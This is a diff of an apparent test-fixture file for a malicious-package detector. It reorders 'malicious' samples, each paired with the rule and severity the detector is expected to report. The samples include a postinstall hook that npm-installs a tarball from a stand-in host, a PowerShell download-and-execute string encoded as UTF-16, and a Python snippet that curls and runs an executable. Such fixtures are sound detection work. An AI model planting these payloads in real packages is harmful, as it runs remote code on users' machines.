@@ -10,14 +10,6 @@ const ENCODED = Buffer.from('iex (iwr http://a.weir.test/p)', 'utf16le').toStrin
 export const samples: Samples = {
   malicious: [
     {
-      name: 'an archive of an address that code installs with the package manager that runs it',
-      files: {
-        'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
-        'setup.js': `const { execFileSync } = require('child_process');\nconst source = { host: 'dl.weir.test', tag: 'stable' };\nconst spec = () => \`https://\${source.host}/own/\${source.tag}.tgz\`;\nfunction install(one) {\n  const args = ['install', '--no-save', one];\n  execFileSync(process.execPath, [process.env.npm_execpath, ...args]);\n}\ninstall(spec());\n`,
-      },
-      expected: [{ rule: 'remote-install', file: 'setup.js', line: 6, severity: 'high' }],
-    },
-    {
       name: 'Python: a line in a list of one word, and what it stored',
       files: wheel(
         "import subprocess\nclass Own:\n    subprocess.Popen(['cd C:/ && curl https://files.weir.test/a.exe -o a.exe'], shell=True)\n    subprocess.Popen(['C:/a.exe'], shell=True)\n",
@@ -257,6 +249,14 @@ export const samples: Samples = {
         { rule: 'system-loader', file: 'package.json', line: HOOK_LINE, severity: 'critical' },
         { rule: 'system-loader', file: 'package.json', line: HOOK_LINE, severity: 'critical' },
       ],
+    },
+    {
+      name: 'an archive of an address that code installs with the package manager that runs it',
+      files: {
+        'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
+        'setup.js': `const { execFileSync } = require('child_process');\nconst source = { host: 'dl.weir.test', tag: 'stable' };\nconst spec = () => \`https://\${source.host}/own/\${source.tag}.tgz\`;\nfunction install(one) {\n  const args = ['install', '--no-save', one];\n  execFileSync(process.execPath, [process.env.npm_execpath, ...args]);\n}\ninstall(spec());\n`,
+      },
+      expected: [{ rule: 'remote-install', file: 'setup.js', line: 6, severity: 'high' }],
     },
   ],
   benign: [
